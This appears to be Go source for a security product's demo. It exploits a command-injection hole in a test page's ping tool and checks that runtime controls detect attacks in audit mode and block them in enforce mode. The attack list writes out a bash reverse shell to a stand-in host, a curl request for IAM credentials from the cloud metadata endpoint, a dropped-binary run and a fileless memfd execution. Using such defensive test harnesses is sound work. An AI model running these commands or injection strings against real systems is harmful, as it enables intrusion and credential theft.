package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"
)

// attack is one thing an intruder does through the injection hole.
type attack struct {
	name    string
	control string                        // the control that must answer
	shell   string                        // what the injected shell runs
	needs   string                        // shell condition without which the attack makes no sense on this image
	stdin   func() ([]byte, error)        // what the shell reads
	won     func(before, after seen) bool // did it reach its goal?
}

// seen is what an attack could observe: its own output and what the peer counted.
type seen struct {
	output   string
	Shells   int `json:"shells"`
	Metadata int `json:"metadata"`

	// MetadataUp is false when the image itself occupies port 80 of the
	// metadata address.
	MetadataUp bool `json:"metadataUp"`
}

const site = "/usr/local/bin/site"

// attacks is the demo's list, in the order in which they are made.
func (d *demo) attacks() []attack {
	program := func() ([]byte, error) {
		b, err := os.ReadFile(filepath.Join(d.dir, "site"))
		if err != nil {
			return nil, err
		}
		tail := make([]byte, 16) // a digest that nobody has seen before
		_, _ = rand.Read(tail)
		return append(b, tail...), nil
	}
	printed := func(s string) func(_, after seen) bool {
		return func(_, after seen) bool { return strings.Contains(after.output, s) }
	}
	const ran = "limpet-demo: the dropped program ran"
	return []attack{
		{"a dropped program", "drift", "cat >/tmp/.x; chmod 755 /tmp/.x; /tmp/.x; rm -f /tmp/.x", "", program, printed(ran)},
		{"a package manager", "packageManagers",
			"for p in apt-get apk dnf yum; do command -v $p >/dev/null && { $p --version; break; }; done",
			"command -v apt-get || command -v apk || command -v dnf || command -v yum", nil,
			func(_, after seen) bool {
				return strings.Contains(after.output, "apt 2") || strings.Contains(after.output, "apt 3") ||
					strings.Contains(after.output, "apk-tools") || strings.Contains(after.output, "Installed:")
			}},
		{"a reverse shell", "reverseShell",
			"if [ -x /bin/bash ]; then bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'; else " + site + " shell 203.0.113.66:4444; fi",
			"", nil, func(before, after seen) bool { return after.Shells > before.Shells }},
		{"a request for cloud credentials", "metadataEndpoints",
			"u=http://169.254.169.254/latest/meta-data/iam/security-credentials/; if command -v curl >/dev/null; then curl -sS -m 20 $u; else " + site + " fetch $u; fi",
			"", nil, func(before, after seen) bool { return after.Metadata > before.Metadata }},
		{"a program run from memory", "fileless", site + " memfd", "", program, printed(ran)},
	}
}

// result is what became of one attack in both modes.
type result struct {
	attack
	skipped        string
	audit, enforce outcome
}

type outcome struct {
	won    bool
	event  *event
	output string
}

// ok says that the attack was detected in audit mode and blocked in enforce mode.
func (r result) ok() bool {
	return r.audit.event != nil && r.audit.won && r.enforce.event != nil && !r.enforce.won
}

// event is the part of the control plane's event that the demo prints.
type event struct {
	ID        string `json:"id"`
	Verdict   string `json:"verdict"`
	Control   string `json:"control"`
	Rule      string `json:"rule"`
	Policy    string `json:"policy"`
	Technique string `json:"technique"`
	Reason    string `json:"reason"`
	ErrnoName string `json:"errnoName"`
	Killed    bool   `json:"killed"`
}

// attackTwice runs every attack in audit mode, switches the group to enforce
// mode while the workload runs, and runs them again.
func (d *demo) attackTwice(ctx context.Context, t target) ([]result, error) {
	var results []result
	for _, a := range d.attacks() {
		r := result{attack: a}
		if a.needs != "" {
			out, err := inject(ctx, t, a.needs+" || echo limpet-demo-missing", nil)
			if err != nil {
				return nil, err
			}
			if strings.Contains(out, "limpet-demo-missing") {
				r.skipped = "this image has none"
			}
		}
		if a.control == "metadataEndpoints" {
			s, err := report(ctx, t)
			if err != nil {
				return nil, err
			}
			if !s.MetadataUp {
				r.skipped = "the image listens on port 80 itself"
			}
		}
		results = append(results, r)
	}
	for _, mode := range []string{"audit", "enforce"} {
		if err := d.setMode(ctx, mode); err != nil {
			return nil, err
		}
		d.say("Attacking in %s mode", mode)
		for i := range results {
			r := &results[i]
			if r.skipped != "" {
				continue
			}
			o, err := d.attackOnce(ctx, t, r.attack, map[string]string{"audit": "audit", "enforce": "deny"}[mode])
			if err != nil {
				return nil, fmt.Errorf("%s (%s mode): %w", r.name, mode, err)
			}
			if mode == "audit" {
				r.audit = o
			} else {
				r.enforce = o
			}
			d.step("%s: %s", r.name, describe(o))
		}
		if err := pageServes(ctx, t); err != nil {
			return nil, fmt.Errorf("the page is no longer served in %s mode: %w", mode, err)
		}
		d.step("the page is still served")
	}
	return results, t.Alive(ctx)
}

func (d *demo) attackOnce(ctx context.Context, t target, a attack, verdict string) (outcome, error) {
	var stdin []byte
	if a.stdin != nil {
		b, err := a.stdin()
		if err != nil {
			return outcome{}, err
		}
		stdin = b
	}
	before, err := report(ctx, t)
	if err != nil {
		return outcome{}, err
	}
	start := time.Now().Add(-time.Second)
	out, err := inject(ctx, t, a.shell, stdin)
	if err != nil {
		return outcome{}, err
	}
	o := outcome{output: out}
	// What reached the attacker's host may be counted a moment later, on a busy
	// machine more than a moment; in enforce mode nothing is to come.
	moment := 2 * time.Second
	if verdict == "audit" {
		moment = 20 * time.Second
	}
	err = poll(ctx, moment, 100*time.Millisecond, func() (bool, error) {
		after, err := report(ctx, t)
		after.output = out
		o.won = err == nil && a.won(before, after)
		return o.won, nil
	})
	if err != nil && ctx.Err() != nil {
		return o, ctx.Err()
	}
	o.event, err = d.findEvent(ctx, a.control, verdict, start)
	return o, err
}

// findEvent waits for an event of the control with the verdict; none within
// half a minute is not an error but a nil event.
func (d *demo) findEvent(ctx context.Context, control, verdict string, since time.Time) (*event, error) {
	q := url.Values{"control": {control}, "verdict": {verdict}, "from": {since.UTC().Format(time.RFC3339Nano)}, "limit": {"1"}}
	var found *event
	err := poll(ctx, 30*time.Second, 200*time.Millisecond, func() (bool, error) {
		var page struct{ Items []event }
		if _, err := d.api.do(ctx, "GET", "/events?"+q.Encode(), "", nil, &page); err != nil {
			return false, err
		}
		if len(page.Items) > 0 {
			found = &page.Items[0]
		}
		return found != nil, nil
	})
	if found == nil && err != nil && ctx.Err() != nil {
		return nil, ctx.Err()
	}
	return found, nil
}

// inject sends a command through the page's hole and gives what it printed.
func inject(ctx context.Context, t target, command string, stdin []byte) (string, error) {
	ctx, cancel := context.WithTimeout(ctx, time.Minute)
	defer cancel()
	u := t.Hole() + "/tools/ping?host=" + url.QueryEscape("localhost; "+command)
	return get(ctx, http.MethodPost, u, stdin)
}

func report(ctx context.Context, t target) (seen, error) {
	var s seen
	body, err := get(ctx, http.MethodGet, t.Report(), nil)
	if err != nil {
		return s, fmt.Errorf("cannot ask the attacker's host: %w", err)
	}
	return s, json.Unmarshal([]byte(body), &s)
}

func pageServes(ctx context.Context, t target) error {
	if t.Page() == "" {
		return nil
	}
	_, err := get(ctx, http.MethodGet, t.Page(), nil)
	return err
}

func get(ctx context.Context, method, u string, body []byte) (string, error) {
	req, err := http.NewRequestWithContext(ctx, method, u, bytes.NewReader(body))
	if err != nil {
		return "", err
	}
	c := http.Client{Timeout: time.Minute, Transport: &http.Transport{Proxy: nil, DisableKeepAlives: true}}
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if err != nil {
		return "", err
	}
	if resp.StatusCode != http.StatusOK {
		return "", fmt.Errorf("%s: %s", u, resp.Status)
	}
	return string(b), nil
}
